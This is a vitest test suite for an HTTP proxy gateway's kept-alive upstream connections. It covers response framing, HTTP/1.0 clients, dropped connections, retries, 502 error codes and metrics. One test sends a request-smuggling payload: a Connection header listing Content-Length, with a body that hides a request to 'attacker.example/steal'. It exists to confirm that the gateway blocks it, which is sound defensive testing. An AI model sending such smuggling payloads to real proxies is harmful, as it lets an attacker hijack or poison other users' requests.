// Kept-alive upstream connections for absolute-form plain HTTP (docs/gateway.md § Plain HTTP): a real
// gateway process, one client connection per request (Connection: close), and two real upstreams — the
// emulator's forward proxy (as every emulated VM runs) and a scripted proxy on a raw socket that answers
// with exact bytes, so each framing (Content-Length, chunked with trailers, close-delimited, HEAD, 204,
// 304) and each way an upstream drops a connection can be produced on purpose.
import http from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  basicAuth,
  type GatewayProcess,
  rawExchange,
  startGateway,
} from '../../bench/support/gateway-process.js';
import { snapshotFile } from '../../bench/support/snapshot-file.js';
import { startTargets, type Targets } from '../../bench/support/targets.js';
import { createForwardProxy, type ForwardProxy } from '../../emulators/forward-proxy/proxy.js';
import { DEAD_PORT } from '../support/dead-port.js';
import { pollUntil } from '../support/poll.js';
import { BODY, scriptedUpstream } from '../support/scripted-proxy.js';

const AUTH = basicAuth('crawler', 's3cret');
/** Routed to the scripted upstream; it never connects anywhere, so any allowed address will do. */
const SCRIPTED = '127.0.0.5';
/** Routed to an upstream that is down. */
const DEAD = '127.0.0.6';

interface Got {
  status: number;
  headers: http.IncomingHttpHeaders;
  trailers: NodeJS.Dict<string>;
  body: Buffer;
}

/** One request through the gateway on a new client connection, parsed by Node's own client. */
function viaGateway(gw: GatewayProcess, url: string, method = 'GET', body?: Buffer): Promise<Got> {
  return new Promise((resolve, reject) => {
    const req = http.request({
      host: '127.0.0.1',
      port: gw.proxyPort,
      method,
      path: url,
      agent: false,
      headers: {
        'Proxy-Authorization': AUTH,
        Connection: 'close',
        ...(body ? { 'Content-Length': String(body.length) } : {}),
      },
      timeout: 10_000,
    });
    req.once('timeout', () => req.destroy(new Error('timeout')));
    req.once('error', reject);
    req.once('response', (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.once('end', () =>
        resolve({
          status: res.statusCode!,
          headers: res.headers,
          trailers: res.trailers,
          body: Buffer.concat(chunks),
        }),
      );
      res.once('error', reject);
    });
    req.end(body);
  });
}

/** Every request is over: nothing active or reserved on any upstream (a leak would hold capacity forever). */
async function expectNoLoad(gw: GatewayProcess): Promise<void> {
  const h = await pollUntil(
    gw.health,
    (x) => x.load.active + x.load.reserved === 0,
    10_000,
    'no active or reserved request',
  );
  expect(h.load).toEqual({ active: 0, reserved: 0 });
}

const requestsOk = async (gw: GatewayProcess, route: string) => {
  const m = await gw.metrics();
  const line = new RegExp(
    `gateway_requests_total\\{listener="proxy",route="${route}",outcome="ok"\\} (\\d+)`,
  );
  return Number(line.exec(m)?.[1] ?? 0);
};

describe('kept-alive upstream connections for absolute-form plain HTTP', () => {
  let targets: Targets;
  let emu: ForwardProxy;
  const scripted = scriptedUpstream();
  let gw: GatewayProcess;

  beforeAll(async () => {
    targets = await startTargets();
    emu = createForwardProxy({ credentials: 'up:up-pass' });
    const { port } = await emu.listen();
    const scriptedPort = await scripted.listen();
    // Nothing listens there: an upstream that is down.
    const deadPort = DEAD_PORT;
    gw = await startGateway(
      snapshotFile({
        upstreams: [
          `http://up:up-pass@127.0.0.1:${port}`,
          `http://up:wrong@127.0.0.1:${port}`,
          `http://up:up-pass@127.0.0.1:${scriptedPort}`,
          `http://up:up-pass@127.0.0.1:${deadPort}`,
        ],
        routing: [
          { name: 'bad', match: { hosts: ['127.0.0.2'] }, selector: { pool: 'bad' }, policy: 'round-robin' },
          {
            name: 'scripted',
            match: { hosts: [SCRIPTED] },
            selector: { pool: 'scripted' },
            policy: 'round-robin',
          },
          { name: 'dead', match: { hosts: [DEAD] }, selector: { pool: 'dead' }, policy: 'round-robin' },
          { name: 'default', match: { hosts: ['*'] }, selector: { pool: 'good' }, policy: 'least-active' },
        ],
        attributes: (i) => ({ pool: ['good', 'bad', 'scripted', 'dead'][i]! }),
        filtersDestinations: () => true,
      }),
      {
        GATEWAY_CLIENT_USERS: 'crawler:s3cret',
        GATEWAY_SSRF_ALLOW: `127.0.0.1:${targets.httpPort},127.0.0.2:9,${SCRIPTED}:80,${DEAD}:80`,
        LOG_LEVEL: 'debug',
        // Short, so that the tests can watch the gateway close idle connections itself.
        GATEWAY_UPSTREAM_KEEPALIVE_MS: '1000',
      },
    );
  });

  afterAll(async () => {
    await gw?.stop();
    await emu?.close();
    await scripted.close();
    await targets?.close();
  });

  it('N sequential client requests ride fewer than N upstream connections, each counted once', async () => {
    const N = 8;
    const acceptedBefore = emu.stats().accepted;
    const okBefore = await requestsOk(gw, 'default');
    for (let i = 0; i < N; i++) {
      const r = await viaGateway(gw, `http://127.0.0.1:${targets.httpPort}/seq-${i}`);
      expect(r.status).toBe(200);
      // The client asked to close and is told so; the target saw its own request, not our credentials.
      expect(r.headers.connection).toBe('close');
      expect(JSON.parse(r.body.toString())).toMatchObject({ url: `/seq-${i}`, proxyAuthorization: null });
    }
    const opened = emu.stats().accepted - acceptedBefore;
    expect(opened).toBeLessThan(N);
    expect(opened).toBeLessThanOrEqual(1);
    expect(emu.stats().forwarded).toBeGreaterThanOrEqual(N);
    // A reused connection is still one request each: metrics, and the live counters back at zero.
    expect((await requestsOk(gw, 'default')) - okBefore).toBe(N);
    await expectNoLoad(gw);
  });

  it.each([
    ['Content-Length', '/cl', 'cl'],
    ['chunked (re-chunked for the client, trailers kept)', '/chunked', 'chunked'],
    ['close-delimited', '/close', 'close'],
  ])('a %s response arrives byte-exact', async (_name, path, framing) => {
    const r = await viaGateway(gw, `http://${SCRIPTED}${path}`);
    expect(r.status).toBe(200);
    expect(r.headers['x-framing']).toBe(framing);
    expect(r.body.equals(BODY)).toBe(true);
    if (framing === 'cl') expect(r.headers['content-length']).toBe(String(BODY.length));
    if (framing === 'chunked') {
      expect(r.headers['transfer-encoding']).toBe('chunked');
      expect(r.trailers).toEqual({ 'x-sum': '42' });
    }
    if (framing === 'close') expect(r.headers['content-length']).toBeUndefined();
    // The upstream hop's own fields stay on that hop.
    expect(r.headers['keep-alive']).toBeUndefined();
  });

  it('responses without a body (HEAD, 204, 304) end at their head and leave the connection reusable', async () => {
    await viaGateway(gw, `http://${SCRIPTED}/cl`); // a pooled connection to start from
    const before = scripted.state.accepted;
    const head = await viaGateway(gw, `http://${SCRIPTED}/cl`, 'HEAD');
    expect(head.status).toBe(200);
    expect(head.headers['content-length']).toBe(String(BODY.length));
    expect(head.body.length).toBe(0);
    expect((await viaGateway(gw, `http://${SCRIPTED}/204`)).status).toBe(204);
    const notModified = await viaGateway(gw, `http://${SCRIPTED}/304`);
    expect(notModified).toMatchObject({ status: 304, body: Buffer.alloc(0) });
    expect(notModified.headers.etag).toBe('"v1"');
    const after = await viaGateway(gw, `http://${SCRIPTED}/cl`);
    expect(after.body.equals(BODY)).toBe(true);
    expect(scripted.state.accepted).toBe(before);
  });

  it('an HTTP/1.0 client gets a chunked body de-chunked and close-delimited, and no 1xx', async () => {
    const r = await rawExchange(
      gw.proxyPort,
      `GET http://${SCRIPTED}/chunked HTTP/1.0\r\nHost: ${SCRIPTED}\r\nProxy-Authorization: ${AUTH}\r\n\r\n`,
    );
    const raw = Buffer.from(r.text, 'latin1');
    const end = raw.indexOf('\r\n\r\n');
    const head = raw.toString('latin1', 0, end);
    expect(head).toMatch(/^HTTP\/1\.1 200 OK\r\n/);
    expect(head).not.toMatch(/transfer-encoding/i);
    expect(head).toMatch(/\r\nConnection: close$/);
    expect(raw.subarray(end + 4).equals(BODY)).toBe(true);
    // No 1xx to an HTTP/1.0 client, and its Expect is not forwarded (RFC 9110 §15.2, §10.1.1).
    const seen = scripted.state.seen.length;
    const hinted = await rawExchange(
      gw.proxyPort,
      `GET http://${SCRIPTED}/103 HTTP/1.0\r\nHost: ${SCRIPTED}\r\nExpect: 100-continue\r\nProxy-Authorization: ${AUTH}\r\n\r\n`,
    );
    expect(hinted.text).toMatch(/^HTTP\/1\.1 200 OK\r\n/);
    expect(hinted.text).not.toContain('103');
    expect(hinted.text.endsWith('\r\n\r\nfinal')).toBe(true);
    expect(scripted.state.seen[seen]!.head).not.toMatch(/\r\nexpect:/i);
    // An HTTP/1.1 client gets the hint, then the answer.
    const eleven = await rawExchange(
      gw.proxyPort,
      `GET http://${SCRIPTED}/103 HTTP/1.1\r\nHost: ${SCRIPTED}\r\nProxy-Authorization: ${AUTH}\r\n\r\n`,
    );
    expect(eleven.text).toMatch(
      /^HTTP\/1\.1 103 Early Hints\r\nLink: <\/s\.css>; rel=preload\r\n\r\nHTTP\/1\.1 200 OK\r\n/,
    );
    expect(eleven.text.endsWith('\r\n\r\nfinal')).toBe(true);
  });

  it('a request body with Content-Length reaches the upstream byte-exact', async () => {
    const r = await viaGateway(gw, `http://${SCRIPTED}/echo`, 'POST', BODY);
    expect(r.status).toBe(200);
    expect(r.body.equals(BODY)).toBe(true);
    const seen = scripted.state.seen.at(-1)!;
    expect(seen.head).toMatch(/^POST http:\/\/127\.0\.0\.5\/echo HTTP\/1\.1\r\n/);
    expect(seen.head).toContain(
      `\r\nProxy-Authorization: Basic ${Buffer.from('up:up-pass').toString('base64')}`,
    );
    expect(seen.head).not.toContain(AUTH);
  });

  it('a Connection header listing Content-Length cannot unframe a body onto a pooled connection (no smuggling)', async () => {
    const smuggled = `GET http://attacker.example/steal HTTP/1.1\r\nX-Ignore: `;
    const before = scripted.state.seen.length;
    const attack = await rawExchange(
      gw.proxyPort,
      `GET http://${SCRIPTED}/echo HTTP/1.1\r\nHost: ${SCRIPTED}\r\nProxy-Authorization: ${AUTH}\r\n` +
        `Connection: content-length\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
    );
    expect(attack.text).toMatch(/^HTTP\/1\.1 200/);
    // The next client's request, on whatever pooled connection the gateway picks: its own answer.
    const victim = await viaGateway(gw, `http://${SCRIPTED}/cl`);
    expect(victim.status).toBe(200);
    const seen = scripted.state.seen.slice(before);
    expect(seen.map((x) => x.url)).toEqual([`http://${SCRIPTED}/echo`, `http://${SCRIPTED}/cl`]);
    expect(seen[0]!.head).toMatch(new RegExp(`\r\nContent-Length: ${smuggled.length}(\r\n|$)`));
    expect(seen[0]!.body.toString('latin1')).toBe(smuggled);
    await expectNoLoad(gw);
  });

  it('a response slower than the idle timeout still arrives; idle connections are closed by the gateway', async () => {
    const r = await viaGateway(gw, `http://${SCRIPTED}/slow`);
    expect(r).toMatchObject({ status: 200, body: Buffer.from('slow') });
    // GATEWAY_UPSTREAM_KEEPALIVE_MS=1000: nothing runs, so every pooled connection goes.
    const h = await pollUntil(gw.health, (x) => x.sockets.upstreams === 0, 10_000, 'no upstream socket');
    expect(h.sockets.upstreams).toBe(0);
  });

  it('a field value Node would not put on the wire is a 400, and no upstream sees the request', async () => {
    const before = scripted.state.seen.length;
    const r = await rawExchange(
      gw.proxyPort,
      `GET http://${SCRIPTED}/cl HTTP/1.1\r\nHost: ${SCRIPTED}\r\nProxy-Authorization: ${AUTH}\r\nX-Bad: a\x01b\r\n\r\n`,
    );
    expect(r.text).toMatch(/^HTTP\/1\.1 400/);
    expect(r.text).toContain('bad_request');
    expect(scripted.state.seen.length).toBe(before);
    await expectNoLoad(gw);
  });

  it('an upstream closing an idle connection does not fail the next request', async () => {
    scripted.state.closeIdleAfterMs = 50;
    try {
      expect((await viaGateway(gw, `http://${SCRIPTED}/cl`)).status).toBe(200);
      await new Promise((r) => setTimeout(r, 300));
      const before = scripted.state.accepted;
      const r = await viaGateway(gw, `http://${SCRIPTED}/cl`);
      expect(r.status).toBe(200);
      expect(r.body.equals(BODY)).toBe(true);
      expect(scripted.state.accepted).toBe(before + 1);
    } finally {
      scripted.state.closeIdleAfterMs = null;
    }
  });

  it('a GET sent on a connection the upstream dropped unanswered is sent again on a fresh one', async () => {
    await viaGateway(gw, `http://${SCRIPTED}/cl`);
    const before = { accepted: scripted.state.accepted, seen: scripted.state.seen.length };
    scripted.state.dropNextReused = true;
    try {
      const r = await viaGateway(gw, `http://${SCRIPTED}/cl`);
      expect(r.status).toBe(200);
      expect(r.body.equals(BODY)).toBe(true);
      expect(scripted.state.dropNextReused).toBe(false); // the drop did happen
      expect(scripted.state.accepted).toBe(before.accepted + 1);
      expect(scripted.state.seen.length).toBe(before.seen + 2);
    } finally {
      // Not consumed (the request came on a fresh connection), it would drop the next test's warm-up.
      scripted.state.dropNextReused = false;
    }
  });

  it('a POST is never sent twice: the dropped connection is a 502 target_closed', async () => {
    await viaGateway(gw, `http://${SCRIPTED}/cl`);
    const before = scripted.state.seen.length;
    scripted.state.dropNextReused = true;
    try {
      const r = await viaGateway(gw, `http://${SCRIPTED}/echo`, 'POST', Buffer.from('once'));
      expect(scripted.state.dropNextReused).toBe(false); // the drop did happen
      expect(r.status).toBe(502);
      expect(r.headers['x-proxyplane-error']).toBe('target_closed');
      expect(scripted.state.seen.length).toBe(before + 1);
    } finally {
      scripted.state.dropNextReused = false;
    }
  });

  it('an upstream refusing our credentials (407) is a 502 upstream_auth_failed, and the pool carries on', async () => {
    const r = await rawExchange(
      gw.proxyPort,
      `GET http://127.0.0.2:9/ HTTP/1.1\r\nHost: 127.0.0.2:9\r\nProxy-Authorization: ${AUTH}\r\n\r\n`,
    );
    expect(r.text).toMatch(/^HTTP\/1\.1 502/);
    expect(r.text).toContain('X-Proxyplane-Error: upstream_auth_failed');
    expect(r.text).not.toMatch(/Proxy-Authenticate/i);
    expect((await viaGateway(gw, `http://127.0.0.1:${targets.httpPort}/after-407`)).status).toBe(200);
  });

  it('POST /v1/fetch: a HEAD answer carries no Content-Length (no body follows), an odd status is relayed', async () => {
    const fetchVia = (body: object) =>
      fetch(`http://127.0.0.1:${gw.httpPort}/v1/fetch`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'proxy-authorization': AUTH },
        body: JSON.stringify(body),
        signal: AbortSignal.timeout(5_000),
      });
    const head = await fetchVia({ url: `http://${SCRIPTED}/cl`, method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(head.headers.get('content-length')).toBeNull();
    expect(head.headers.get('x-framing')).toBe('cl');
    expect((await head.arrayBuffer()).byteLength).toBe(0);
    // Past 599 (LinkedIn's 999): the target's answer, as the proxy listener relays it — not a 502 that says
    // the chain failed. A WHATWG fetch client reads it as it came.
    const odd = await fetchVia({ url: `http://${SCRIPTED}/999` });
    expect(odd.status).toBe(999);
    expect(await odd.text()).toBe('ok');
    await expectNoLoad(gw);
  });

  it('POST /v1/fetch of an http:// URL rides the same kept-alive connections', async () => {
    const fetchVia = (url: string) =>
      fetch(`http://127.0.0.1:${gw.httpPort}/v1/fetch`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'proxy-authorization': AUTH },
        body: JSON.stringify({ url }),
      });
    await viaGateway(gw, `http://${SCRIPTED}/cl`);
    const before = { accepted: scripted.state.accepted, seen: scripted.state.seen.length };
    for (const path of ['/cl', '/chunked', '/cl']) {
      const r = await fetchVia(`http://${SCRIPTED}${path}`);
      expect(r.status).toBe(200);
      expect(r.headers.get('x-proxyplane-route')).toBe('scripted');
      expect(Buffer.from(await r.arrayBuffer()).equals(BODY)).toBe(true);
    }
    expect(scripted.state.accepted).toBe(before.accepted);
    const seen = scripted.state.seen.slice(before.seen);
    expect(seen.map((x) => `${x.method} ${x.url}`)).toEqual([
      `GET http://${SCRIPTED}/cl`,
      `GET http://${SCRIPTED}/chunked`,
      `GET http://${SCRIPTED}/cl`,
    ]);
    const refused = await fetchVia('http://127.0.0.2:9/');
    expect(refused.status).toBe(502);
    expect(await refused.json()).toEqual({ error: 'upstream_auth_failed', upstreamStatus: 407 });
    await expectNoLoad(gw);
  });

  it('an upstream that is down is a 502 upstream_dial_failed', async () => {
    const r = await viaGateway(gw, `http://${DEAD}/`);
    expect(r.status).toBe(502);
    expect(r.headers['x-proxyplane-error']).toBe('upstream_dial_failed');
  });

  it('every request is one outcome, whatever connection carried it', async () => {
    // The local reporter drains the outcome queue every 5 s and logs the totals.
    const sum = () =>
      gw
        .logEntries()
        .filter((e) => e.message === 'outcomes')
        .reduce((n, e) => n + (e.total as number), 0);
    const okTotal = async () => {
      const m = await gw.metrics();
      let n = 0;
      for (const x of m.matchAll(
        /gateway_requests_total\{listener="(?:proxy|fetch)",route="[^"]+",outcome="([^"]+)"\} (\d+)/g,
      ))
        if (x[1] === 'ok' || x[1]!.startsWith('upstream_') || x[1]!.startsWith('target_')) n += Number(x[2]);
      return n;
    };
    const expected = await okTotal();
    const total = await pollUntil(
      async () => sum(),
      (n) => n >= expected,
      12_000,
      `${expected} in all`,
    );
    expect(total).toBe(expected);
  }, 20_000);
});
